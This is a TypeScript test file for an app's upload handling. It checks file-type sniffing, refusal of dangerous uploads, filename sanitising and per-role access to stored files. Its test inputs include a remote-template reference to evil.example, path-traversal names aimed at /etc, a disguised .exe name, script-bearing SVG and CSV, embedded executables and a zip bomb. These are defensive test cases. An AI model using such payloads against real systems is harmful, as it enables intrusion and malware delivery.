/** Files that come: what is taken, what is not, and who gets them back. */
import { strToU8, type Zippable, zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Invalid } from '../../kernel/errors.ts'
import type { Id } from '../../kernel/ids.ts'
import { actAs, actAsLink, actAsPublic } from '../access/acting.ts'
import type { RoleKey } from '../access/index.ts'
import { inTenant, sql, type Tx } from '../database/index.ts'
import { type TestDatabase, testDatabase } from '../database/testing.ts'
import { testGate } from '../http/testing.ts'
import { describeFiles, publishFile, readFile, removeFile, storeFile, storeUpload } from './files.ts'
import { cleanName } from './names.ts'
import { sniff } from './sniff.ts'

const text = (content: string) => new TextEncoder().encode(content)
const types = (main: string) => strToU8(`<Types><Override ContentType="application/vnd.${main}"/></Types>`)
const word = 'openxmlformats-officedocument.wordprocessingml.document.main+xml'
const archive = (more: Zippable = {}, main = word) =>
  zipSync({ '[Content_Types].xml': types(main), 'word/document.xml': strToU8('<w/>'), ...more })
const remote =
  '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'

describe('a file is what its content says', () => {
  test.each<[string, Uint8Array, string]>([
    ['bericht.pdf', text('%PDF-1.7\n…'), 'pdf'],
    ['bericht.docx', archive(), 'docx'],
    ['liste.bin', archive({}, 'openxmlformats-officedocument.spreadsheetml.sheet.main+xml'), 'xlsx'],
    ['text.odt', zipSync({ mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }] }), 'odt'],
    ['plan.png', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]), 'png'],
    ['foto.jpg', new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 0]), 'jpeg'],
    ['liste.csv', text('Maßnahme;Stand\nSprachtreff;läuft'), 'csv'],
    ['notiz', text('Wartezeit < 14 Tage'), 'txt'],
    ['alt.txt', new Uint8Array([0x4d, 0x61, 0xdf, 0x6e]), 'txt'],
  ])('%s', (name, bytes, kind) => {
    expect(sniff(bytes, name)).toEqual({ kind })
  })

  test.each<[string, string, Uint8Array, string]>([
    ['empty', 'a.pdf', new Uint8Array(), 'file-empty'],
    ['a program of Windows', 'a.pdf', text('MZ\u0090'), 'file-executable'],
    ['a program of Linux', 'a.txt', text('\u007fELF'), 'file-executable'],
    ['a script', 'a.txt', text('#!/bin/sh'), 'file-executable'],
    ['a page', 'a.txt', text('\ufeff  <!DOCTYPE html><p>'), 'file-kind'],
    ['a drawing with script', 'a.png', text('<svg xmlns="x"><script/></svg>'), 'file-kind'],
    ['a page behind some words', 'a.csv', text('Hallo\n<script>alert(1)</script>'), 'file-kind'],
    ['bytes that are no text', 'a.txt', new Uint8Array([1, 2, 3]), 'file-kind'],
    ['an old Word file', 'a.doc', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1]), 'file-old-office'],
    ['a Word file with macros', 'a.docx', archive({ 'word/vbaProject.bin': strToU8('x') }), 'file-macros'],
    ['a workbook that says so', 'a.xlsx', archive({}, 'ms-excel.sheet.macroEnabled.main+xml'), 'file-macros'],
    [
      'a Word file that fetches its template',
      'a.docx',
      archive({ 'word/_rels/settings.xml.rels': strToU8(remote) }),
      'file-macros',
    ],
    ['an archive with a program', 'a.docx', archive({ 'word/embeddings/setup.exe': strToU8('MZ') }), 'file-executable'],
    ['an archive that leaves its folder', 'a.docx', archive({ '../../etc/cron': strToU8('x') }), 'file-broken'],
    ['any archive', 'a.zip', zipSync({ 'a.txt': strToU8('x') }), 'file-kind'],
    ['a bomb', 'a.docx', archive({ 'word/media/a': new Uint8Array(20_000_000) }), 'file-bomb'],
    ['half an archive', 'a.docx', archive().slice(0, 60), 'file-broken'],
  ])('%s is not taken', (_what, name, bytes, refused) => {
    expect(sniff(bytes, name)).toEqual({ refused })
  })
})

test.each([
  ['C:\\Users\\ada\\Bericht 2026.docx', 'docx', 'Bericht 2026.docx'],
  ['../../etc/passwd', 'txt', 'passwd.txt'],
  ['Bericht.html', 'txt', 'Bericht.html.txt'],
  ['Rechnung\u202efdp.exe', 'pdf', 'Rechnungfdp.exe.pdf'],
  ['foto.JPG', 'jpeg', 'foto.jpg'],
  ['a"b<c>\r\n.pdf', 'pdf', 'a_b_c_.pdf'],
  ['...', 'csv', '_.csv'],
  ['CON.txt', 'txt', 'CON_.txt'],
  [`${'ä'.repeat(300)}.pdf`, 'pdf', `${'ä'.repeat(116)}.pdf`],
] as const)('%j is kept as %s under %j', (given, kind, kept) => {
  expect(cleanName(given, kind)).toBe(kept)
})

describe('a stored file', () => {
  let database: TestDatabase
  const members: Partial<Record<RoleKey, Id<'user'>>> = {}
  beforeAll(async () => {
    database = await testDatabase()
    const house = await testGate(database)
    for (const role of ['lead', 'council'] as const) members[role] = (await house.member([role])).id
  })
  afterAll(() => database.close())

  const link = new Uint8Array(32).fill(7)
  const as: Readonly<Record<string, (tx: Tx) => Promise<void>>> = {
    lead: (tx) => actAs(tx, { userId: members.lead as Id<'user'>, organisationId: null, controllerId: null }),
    council: (tx) => actAs(tx, { userId: members.council as Id<'user'>, organisationId: null, controllerId: null }),
    public: actAsPublic,
    link: (tx) => actAsLink(tx, link),
    otherLink: (tx) => actAsLink(tx, new Uint8Array(32).fill(8)),
  }
  const file = { name: 'Anlage.pdf', bytes: text('%PDF-1.7 Inhalt'), owner: null }
  const work = <T>(who: string, inner: (tx: Tx) => Promise<T>) =>
    inTenant(database.db, database.tenant, 'system', async (tx) => {
      await as[who]?.(tx)
      return await inner(tx)
    })
  const readers = async (id: Id<'file'>) => {
    const seen: string[] = []
    for (const who of Object.keys(as))
      if (await work(who, (tx) => readFile(tx, id)).then(Boolean, () => false)) seen.push(who)
    return seen
  }

  test('is for staff until it is published, then for everybody; its content and name stay what they were', async () => {
    const id = await work('lead', (tx) => storeFile(tx, null, file))
    expect(await readers(id)).toEqual(['lead'])
    await work('lead', (tx) => publishFile(tx, id))
    expect(await readers(id)).toEqual(Object.keys(as))
    const { type, filename, body } = await work('public', (tx) => readFile(tx, id))
    expect([type, filename, Buffer.from(body).toString()]).toEqual(['application/pdf', 'Anlage.pdf', '%PDF-1.7 Inhalt'])
    const change = work('lead', (tx) => sql`UPDATE stored_file_content SET content = 'x'`.execute(tx))
    await expect(change).rejects.toMatchObject({ code: '42501' })
    await work('lead', (tx) => removeFile(tx, id))
    expect(await readers(id)).toEqual([])
  })

  test('that came by a link is read by staff and by that link alone', async () => {
    const id = await work('link', (tx) => storeFile(tx, null, { ...file, linkHash: link }))
    expect(await readers(id)).toEqual(['lead', 'link'])
    await expect(work('public', (tx) => storeFile(tx, null, file))).rejects.toMatchObject({ code: '42501' })
    await expect(work('council', (tx) => storeFile(tx, null, file))).rejects.toMatchObject({ code: '42501' })
  })

  test('says whose it is, also where it is nobody’s', async () => {
    const { owner: _, ...unsaid } = file
    // @ts-expect-error: staff would read what somebody forgot to give an owner
    expect(await readers(await work('lead', (tx) => storeFile(tx, null, unsaid)))).toEqual(['lead'])
    // @ts-expect-error: and the same for what a form has read
    await work('lead', (tx) => storeUpload(tx, null, new File([text('Notiz')], 'a.txt'), {}))
  })

  test('is described without being read, and only to who may see it', async () => {
    const id = await work('lead', (tx) => storeFile(tx, null, file))
    const described = await work('lead', (tx) => describeFiles(tx, [id]))
    expect(described.get(id)).toMatchObject({ name: 'Anlage.pdf', kind: 'pdf', sizeBytes: 15, isPublic: false })
    expect((await work('public', (tx) => describeFiles(tx, [id]))).size).toBe(0)
  })

  test('that is none, too large or of another kind is said at its field', async () => {
    const refused = (inner: (tx: Tx) => Promise<unknown>) =>
      work('lead', inner).then(
        () => [],
        (error: unknown) => (error as Invalid).issues,
      )
    expect(await refused((tx) => storeUpload(tx, null, undefined, { field: 'proof', owner: null }))).toEqual([
      { field: 'proof', code: 'file-missing' },
    ])
    const large = new File([new Uint8Array(20 * 1024 * 1024 + 1)], 'a.pdf')
    expect(await refused((tx) => storeUpload(tx, null, large, { owner: null }))).toEqual([
      { field: 'file', code: 'file-too-large' },
    ])
    expect(await refused((tx) => storeFile(tx, null, { ...file, kinds: ['docx'] }))).toEqual([
      { field: 'file', code: 'file-kind' },
    ])
  })
})
